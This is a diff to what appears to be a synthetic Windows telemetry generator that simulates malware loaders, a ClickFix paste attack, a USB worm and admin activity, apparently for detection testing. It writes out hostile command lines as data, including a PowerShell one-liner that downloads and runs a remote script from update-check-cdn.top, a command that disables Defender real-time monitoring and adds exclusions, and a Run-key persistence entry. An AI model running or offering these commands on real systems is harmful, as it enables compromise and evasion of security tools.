@@ -34,13 +34,13 @@ LOADER_RECON = [("q_whoami", 1.0), ("q_set", 1.0), ("q_arp", 1.0), ("q_ipconfig"
 BEHAVIOURS = [
     # ------------------------------------------------------------------ scheduled incidents
     B("loader_script", "wscript", "explorer",
-      [(r'"C:\Windows\System32\WScript.exe" "{profile}\Downloads\Invoice_{n:1000-9999}.js"', 1),
+      [(r'"C:\Windows\System32\WScript.exe" "{profile}\Downloads\Invoice_{n:1000-9999}.jse"', 1),
        (r'"C:\Windows\System32\WScript.exe" "{profile}\Downloads\Scan_{n:100-999}.jse"', 1)],
       at=[7, 52, 130, 250], on="ws", kids=[("loader_dll", 1.0)],
       ev=[("file", "loader_script_drop", 1), ("net", "loader_fetch", 1)]),
     B("loader_dll", "rundll32", None, r'"C:\Windows\System32\rundll32.exe" {profile}\AppData\Roaming\{hex:8}\{hex:6}.dll,DllRegisterServer',
       kids=[("loader_mobsync", 1.0), ("loader_ps_dl", 1.0), ("loader_ps_recon", 1.0), ("loader_defender", 1.0), ("loader_persist", 1.0)],
-      ev=[("file", "loader_dll_drop", 1), ("net", "loader_c2", 3), ("net", "loader_dga", 6)]),
+      ev=[("file", "loader_dll_drop", 1), ("net", "loader_c2", 3), ("net", "loader_dga", 14)]),
     B("loader_mobsync", "mobsync", None, "mobsync.exe", kids=LOADER_RECON, ev=[("net", "loader_c2", 4)]),
     B("q_whoami", "whoami", None, "whoami /all"),
     B("q_set", "cmd", None, "cmd /c set"),
@@ -56,7 +56,7 @@ BEHAVIOURS = [
       kids=[CONHOST], ev=PS_LOADS + [("net", "loader_fetch", 1)]),
     B("loader_ps_recon", "powershell", None, "powershell.exe -nop -w hidden -encodedcommand {b64ps:loader_recon}",
       kids=[CONHOST], ev=PS_LOADS + [("net", "ldap", 2)]),
-    B("loader_defender", "powershell", None, "powershell.exe -ExecutionPolicy Bypass -Command {b64ps:defender_off}",
+    B("loader_defender", "powershell", None, "powershell.exe -ExecutionPolicy Bypass -Command \"Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath $env:APPDATA; Add-MpPreference -ExclusionProcess 'rundll32.exe'\"",
       kids=[CONHOST], ev=PS_LOADS),
     B("loader_persist", "reg", None,
       r'reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {pick:OneDriveSync|WinUpdate|ChromeUpdater} /t REG_SZ /d "powershell.exe -w hidden -nop -enc {b64ps:loader_download}" /f',
@@ -117,6 +117,13 @@ BEHAVIOURS = [
     B("pentest_av_query", "wmic", "explorer", r"WMIC.exe /Namespace:\\root\SecurityCenter2 Path AntiVirusProduct Get displayName /Format:List",
       at=[111, 30], on="admin"),
 
+    # a fake "verify you are human" page has the user paste a command into Win+R
+    B("clickfix_paste", "powershell", "explorer", 'powershell -w hidden -nop -c "iwr http://update-check-cdn.top/c.ps1 -UseBasicParsing | iex"',
+      at=[31, 143], on="ws", kids=[CONHOST], ev=PS_LOADS + [("reg", "runmru_paste", 1), ("net", "loader_fetch", 1)]),
+    # a USB stick with a worm on it
+    B("usb_copy", "xcopy", "explorer", r'xcopy E:\Photos "{profile}\Pictures\USB" /s /e /y', at=[21, 87, 166, 270], on="ws",
+      ev=[("dev", "pnp_usb_disk", 3), ("dev", "usb_mounted", 1), ("dev", "av_detection_usb", 1)]),
+
     # ------------------------------------------------------------------ administration on a schedule
     B("admin_local_account", "net", "explorer", [("net  user {pick:svc_scan|tempadmin|kiosk|labuser} {pick:Welcome2024!|Spring#2024|Tmp-Passw0rd} /add", 1)],
       at=[20, 98, 190, 290], on="admin", kids=[("net1", 0.5), ("admin_local_group_add", 1.0)], ev=[("dev", "user_created", 1)]),
@@ -128,8 +135,8 @@ BEHAVIOURS = [
       at=[5, 29, 77, 170], on="admin", ev=[("net", "lan_scan", 40)]),
     B("admin_certutil_dl", "certutil", "explorer", r"certutil.exe -urlcache -split -f http://{fileserver}.{ad_domain}/deploy/{pick:agent.msi|LAPS.x64.msi|sysmon.zip} C:\Temp\{pick:agent.msi|LAPS.x64.msi|sysmon.zip}",
       at=[14, 120], on="admin"),
-    B("admin_exch_export", "exch_shell", "explorer", [(r'powershell.exe -NoExit -Command ". \'C:\Program Files\Microsoft\Exchange Server\V15\bin\RemoteExchange.ps1\'; Connect-ExchangeServer -auto; Add-PSSnapin Microsoft.Exchange.Powershell.Snapin; New-MailboxExportRequest -Mailbox {user2} -FilePath \\{fileserver}\Legal$\{user2}.pst"', 1)],
-      at=[70, 230], on="role:exch", acct="admin", kids=[("admin_exch_cleanup", 1.0), CONHOST], ev=PS_LOADS),
+    B("admin_exch_export", "exch_shell", "svc_schedule", [(r'powershell.exe -NoExit -Command ". \'C:\Program Files\Microsoft\Exchange Server\V15\bin\RemoteExchange.ps1\'; Connect-ExchangeServer -auto; Add-PSSnapin Microsoft.Exchange.Powershell.Snapin; New-MailboxExportRequest -Mailbox {user2} -FilePath \\{fileserver}\Legal$\{user2}.pst"', 1)],
+      at=[70, 230], on="role:exch", acct="admin", integ="High", kids=[("admin_exch_cleanup", 1.0), CONHOST], ev=PS_LOADS),
     B("admin_exch_cleanup", "exch_shell", None, r'powershell.exe -Command "Add-PSSnapin Microsoft.Exchange.Powershell.Snapin; Get-MailboxExportRequest -Status Completed | Remove-MailboxExportRequest -Confirm:$false"',
       kids=[CONHOST], ev=PS_LOADS),
     B("admin_pktmon", "pktmon", "explorer", [("PktMon.exe start --etw -p 0 -c 13", 1), ("PktMon.exe stop", 1), ("PktMon.exe etl2pcap PktMon.etl", 0.5)],
@@ -139,7 +146,7 @@ BEHAVIOURS = [
     B("admin_wifi_key", "netsh", "explorer", 'netsh.exe wlan show profile name="{pick:Guest|Office-Guest|Home}" key=clear', at=[17, 92], on="ws"),
     B("user_anydesk", "anydesk_portable", "explorer", r'"{profile}\Downloads\AnyDesk.exe" ', at=[22, 66, 140, 240], on="ws",
       ev=[("net", "svc_anydesk", 4)]),
-    B("admin_7z_password", "sevenzip", "explorer", '7z.exe a -p{hex:8} -mhe=on "{profile}\\Desktop\\{stem}.7z" "{profile}\\Documents\\Confidential\\{stem}"',
+    B("admin_7z_password", "sevenzip", "explorer", '7z.exe a "{profile}\\Desktop\\{stem}.7z" "{profile}\\Documents\\Confidential\\{stem}" -p{hex:8} -mhe=on',
       at=[28, 122, 215], on="ws", ev=[("file", "archive_confidential", 2)]),
     B("admin_dev_exclusion", "powershell", "explorer", r'powershell.exe -Command Add-MpPreference -ExclusionPath "{profile}\source\repos"',
       at=[44, 201], on="has:dev", integ="High", kids=[CONHOST], ev=PS_LOADS),
@@ -177,7 +184,7 @@ NET = {
 }
 
 FILE = {
-    "loader_script_drop": dict(action="FileCreated", folder=r"{profile}\Downloads", name="{pick:Invoice_{n:1000-9999}.js|Scan_{n:100-999}.jse}",
+    "loader_script_drop": dict(action="FileCreated", folder=r"{profile}\Downloads", name="{pick:Invoice_{n:1000-9999}.jse|Scan_{n:100-999}.jse}",
                                origin="https://{pick:docs-share-online.top|cdn-files-drop.xyz}/d/{hex:10}", referrer="https://{pick:docs-share-online.top|cdn-files-drop.xyz}/view.php?id={hex:8}",
                                size=(2_000, 60_000)),
     "loader_dll_drop": dict(action="FileCreated", folder=r"{profile}\AppData\Roaming\{hex:8}", name="{hex:6}.dll", size=(300_000, 900_000)),
@@ -192,6 +199,9 @@ FILE = {
 }
 
 REG = {
+    "runmru_paste": dict(action="RegistryValueSet", key=r"HKEY_CURRENT_USER\{sid}\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\RunMRU",
+                         value="{pick:a|b|c}", vtype="String",
+                         data='powershell -w hidden -nop -c "iwr http://update-check-cdn.top/c.ps1 -UseBasicParsing | iex"\\1'),
     "run_key_loader": dict(action="RegistryValueSet", key=r"HKEY_CURRENT_USER\{sid}\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
                            value="{pick:OneDriveSync|WinUpdate|ChromeUpdater}", vtype="String",
                            data="powershell.exe -w hidden -nop -enc {b64ps:loader_download}"),
@@ -200,6 +210,10 @@ REG = {
 }
 
 DEV = {
+    "pnp_usb_disk": dict(action="PnpDeviceConnected", noinit=True,
+                         af={"ClassName": "DiskDrive", "DeviceDescription": "{pick:SanDisk Ultra USB Device|Kingston DataTraveler 3.0 USB Device|Generic Flash Disk USB Device}",
+                             "DeviceId": "USBSTOR\\DISK&VEN_{pick:SANDISK|KINGSTON|GENERIC}&PROD_FLASH_DISK&REV_1.00\\{hex:16}&0",
+                             "VendorIds": "[\"USBSTOR\\\\DiskSanDisk_Ultra\"]", "ClassId": "{{4d36e967-e325-11ce-bfc1-08002be10318}}"}),
     "asr_office_child_blocked": dict(action="AsrOfficeChildProcessBlocked", file="{pick:cmd.exe|powershell.exe|wscript.exe|rundll32.exe}",
                                      folder=r"C:\Windows\System32\{pick:cmd.exe|powershell.exe|wscript.exe|rundll32.exe}",
                                      af={"IsAudit": False, "RuleId": "d4f940ab-401b-4efc-aadc-ad5f3c50688a"}),
@@ -214,7 +228,7 @@ DEV = {
 
 # ambient producers: (template, session key, weights per class, requirement)
 AMBIENT = {
-    "file": [("printer_driver", "spoolsv", dict(ws=0.03, srv=0.02), "")],
+    "file": [("printer_driver", "spoolsv", dict(ws=0.03, srv=0.02), ""), ("webshell_aspx", "w3wp", dict(srv=0.004), "role:web")],
     "reg": [("service_config", "services", dict(ws=0.3, srv=0.3, dc=0.2), "")],
     "dev": [("av_detection_usb", "explorer", dict(ws=0.01), ""), ("task_created_appdata", "explorer", dict(ws=0.05), "")],
 }
